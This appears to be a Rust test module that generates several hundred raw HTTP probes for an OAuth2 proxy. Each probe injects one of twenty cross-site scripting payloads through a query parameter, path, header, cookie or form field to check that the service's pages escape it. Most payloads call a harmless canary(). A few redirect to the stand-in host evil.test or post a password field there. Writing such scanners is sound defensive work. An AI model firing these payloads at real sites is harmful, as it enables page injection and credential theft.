//! Requests that try to write markup of their own into the service's pages, by every way in which text
//! of a request could get there.

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

/// Markup that calls `canary()` where it stands unescaped, in one of the places where text can stand.
const PAYLOADS: [&str; 20] = [
    "<script>canary()</script>",
    "\"><script>canary()</script>",
    "'><script>canary()</script>",
    "</p></div></main><script>canary()</script>",
    "</title><script>canary()</script>",
    "</style><script>canary()</script>",
    "--><script>canary()</script>",
    "<img/src='x'/onerror='canary()'>",
    "\"><svg/onload=canary()>",
    "\"/onmouseover=\"canary()\"/x=\"",
    "'/onfocus='canary()'/autofocus/x='",
    "`/onfocus=canary()/autofocus/x=`",
    "<iframe/srcdoc='<script>parent.canary()</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img/src='x'/onerror='canary()'>",
    "<base/href='//evil.test'><a/href='//evil.test'>x</a>",
    "<meta/http-equiv='refresh'/content='0;url=//evil.test'>",
    "<form/action='//evil.test'><input/name='password'></form>",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "javascript:canary()",
];

/// What stands in the place of markup where a page is wanted as it should be.
pub const HARMLESS: &str = "harmless";

/// Markup that must be found when it is put into a page on purpose.
pub const CONTROL: &str = PAYLOADS[7];

/// A way in: its name and the request. `{q}` is the text percent-encoded, `{r}` as it stands, `{state}` and
/// `{iss}` are those of a login that this browser began, `{host}` is the service.
type Way = (&'static str, &'static str);

/// Ways in which the text comes with the request line.
const LINES: [Way; 33] = [
    ("error", "GET /oauth2/callback?error={q}&state=x"),
    ("state", "GET /oauth2/callback?state={q}&code=x"),
    ("state of an error", "GET /oauth2/callback?state={q}&error=x"),
    ("rd of an error", "GET /oauth2/callback?error=x&rd=%2F{q}"),
    ("error_uri", "GET /oauth2/callback?error=x&error_uri={q}"),
    ("a parameter's name", "GET /oauth2/callback?{q}=1"),
    ("a parameter twice", "GET /oauth2/callback?error={q}&error={q}"),
    ("a broken parameter", "GET /oauth2/callback?error=%zz{q}"),
    ("rd of the sign-in page", "GET /oauth2/sign_in?rd={q}"),
    ("path in rd of the sign-in page", "GET /oauth2/sign_in?rd=%2F{q}"),
    ("fragment in rd of the sign-in page", "GET /oauth2/sign_in?rd=%2Fa%23{q}"),
    ("query in rd of the sign-in page", "GET /oauth2/sign_in?rd=%2Fa%3Fb%3D{q}"),
    ("host in rd of the sign-in page", "GET /oauth2/sign_in?rd=https%3A%2F%2Fok.test%2F{q}"),
    ("query of the sign-in page", "GET /oauth2/sign_in?{q}"),
    ("rd of a start", "GET /oauth2/start?rd=%2F{q}"),
    ("rd of a start, alone", "GET /oauth2/start?rd={q}"),
    ("a start's parameter", "GET /oauth2/start?{q}={q}"),
    ("rd of a sign-out", "GET /oauth2/sign_out?rd=%2F{q}"),
    ("rd of a sign-out, alone", "GET /oauth2/sign_out?rd={q}"),
    ("userinfo", "GET /oauth2/userinfo?x={q}"),
    ("check", "GET /oauth2/auth?x={q}"),
    ("a check's rule", "GET /oauth2/auth?allowed_groups={q}"),
    ("path", "GET /{q}"),
    ("path as it stands", "GET /{r}"),
    ("path below the prefix", "GET /oauth2/{q}"),
    ("path below the prefix, as it stands", "GET /oauth2/{r}"),
    ("path of static files", "GET /oauth2/static/{q}"),
    ("query", "GET /?{q}"),
    ("query as it stands", "GET /?x={r}"),
    ("robots.txt", "GET /robots.txt?{q}"),
    ("ping", "GET /ping?{q}"),
    ("ready", "GET /ready?{q}"),
    ("method", "{r} /oauth2/sign_in"),
];

/// Ways in which the text comes with a header of a request for a page; the request line, then the header.
const HEADERS: [(&str, Way); 15] = [
    ("GET /oauth2/callback?error=x", ("X-Request-Id", "{r}")),
    ("GET /oauth2/callback?error=x", ("X-Request-Id", "{q}")),
    ("GET /oauth2/sign_in", ("X-Auth-Request-Redirect", "{r}")),
    ("GET /oauth2/sign_in", ("X-Auth-Request-Redirect", "/{r}")),
    ("GET /oauth2/sign_in", ("X-Forwarded-Uri", "/{r}")),
    ("GET /oauth2/callback?error=x", ("X-Forwarded-Uri", "/{q}")),
    ("GET /oauth2/sign_in", ("X-Forwarded-Host", "{r}")),
    ("GET /oauth2/sign_in", ("X-Forwarded-Proto", "{r}")),
    ("GET /oauth2/callback?error=x", ("X-Forwarded-For", "{r}")),
    ("GET /oauth2/callback?error=x", ("User-Agent", "{r}")),
    ("GET /oauth2/callback?error=x", ("Referer", "http://{host}/{r}")),
    ("GET /oauth2/callback?state=x&code=x", ("Cookie", "_oauth2_proxy={r}")),
    ("GET /oauth2/sign_in", ("Cookie", "_oauth2_proxy_csrf={r}; _oauth2_proxy={r}")),
    ("GET /oauth2/sign_in", ("Authorization", "Basic {r}")),
    ("GET /oauth2/sign_in", ("Accept-Language", "{r}")),
];

/// Ways that belong to a login of this browser, so that the page says more.
const OWN_LOGIN: [Way; 4] = [
    ("error of an own login", "GET /oauth2/callback?error={q}&state={state}&iss={iss}"),
    ("error_description", "GET /oauth2/callback?error=access_denied&error_description={q}&state={state}&iss={iss}"),
    ("iss", "GET /oauth2/callback?state={state}&code=x&iss={q}"),
    ("error and iss", "GET /oauth2/callback?error={q}&state={state}&iss={q}"),
];

/// Posted forms.
const FORMS: [(&str, Way); 6] = [
    ("/oauth2/callback", ("posted error", "error={q}&state=x")),
    ("/oauth2/sign_in", ("user name", "username={q}&password=x&rd=%2F")),
    ("/oauth2/sign_in", ("password", "username=alice&password={q}&rd=%2F")),
    ("/oauth2/sign_in", ("posted rd", "username=alice&password=x&rd=%2F{q}")),
    ("/oauth2/sign_in", ("posted rd without a name", "username=&password=x&rd={q}")),
    ("/oauth2/sign_out", ("posted rd of a sign-out", "rd=%2F{q}")),
];

/// The login that this browser began.
#[derive(Clone, Debug)]
pub struct OwnLogin {
    /// Its state, percent-encoded.
    pub state: String,
    /// The issuer that it was begun at, percent-encoded.
    pub issuer: String,
    /// Its cookie, name and value.
    pub cookie: String,
}

/// One request and how its text got in.
#[derive(Clone, Debug)]
pub struct Probe {
    /// The way and the text.
    pub name: String,
    /// The request.
    pub bytes: Vec<u8>,
}

/// Every text by every way, to the service known as `host`; what belongs to a login comes with `login`.
pub fn probes(host: &str, login: &OwnLogin) -> Vec<Probe> {
    PAYLOADS.iter().flat_map(|text| probes_of(text, host, login)).collect()
}

/// One text by every way.
pub fn probes_of(text: &str, host: &str, login: &OwnLogin) -> Vec<Probe> {
    let encoded = utf8_percent_encode(text, NON_ALPHANUMERIC).to_string();
    let filled = |template: &str| {
        let filled = template.replace("{q}", &encoded).replace("{r}", text).replace("{host}", host);
        filled.replace("{state}", &login.state).replace("{iss}", &login.issuer)
    };
    let request = |line: &str, headers: &str, body: &str| {
        let length = if body.is_empty() { String::new() } else { format!("Content-Length: {}\r\n", body.len()) };
        format!("{line} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{headers}{length}\r\n{body}").into_bytes()
    };
    let probe = |name: &str, bytes| Probe { name: format!("{name}: {text}"), bytes };
    let mut made: Vec<Probe> = LINES.iter().map(|(name, line)| probe(name, request(&filled(line), "", ""))).collect();
    made.extend(HEADERS.iter().map(|(line, (name, value))| {
        let way = format!("{name} as {value} of {line}");
        probe(&way, request(line, &format!("{name}: {}\r\n", filled(value)), ""))
    }));
    let cookie = format!("Cookie: {}\r\n", login.cookie);
    made.extend(OWN_LOGIN.iter().map(|(name, line)| probe(name, request(&filled(line), &cookie, ""))));
    made.extend(FORMS.iter().map(|(path, (name, body))| {
        let headers = format!("Origin: http://{host}\r\nContent-Type: application/x-www-form-urlencoded\r\n");
        probe(name, request(&format!("POST {path}"), &headers, &filled(body)))
    }));
    for (path, name) in [("/oauth2/sign_in", "Host"), ("/oauth2/callback?error=x", "Host of an error")] {
        let bytes = format!("GET {path} HTTP/1.1\r\nHost: {text}\r\nConnection: close\r\n\r\n").into_bytes();
        made.push(probe(name, bytes));
    }
    made
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn probes_are_many_and_each_has_a_name_of_its_own() {
        let login = OwnLogin { state: "s".to_owned(), issuer: "i".to_owned(), cookie: "c=d".to_owned() };
        let probes = probes("app.test", &login);
        let names: BTreeSet<&String> = probes.iter().map(|probe| &probe.name).collect();
        assert!(probes.len() >= 500 && names.len() == probes.len(), "{} of {}", names.len(), probes.len());
        assert!(probes.iter().all(|probe| !probe.bytes.windows(3).any(|part| part == b"{q}" || part == b"{r}")));
    }
}
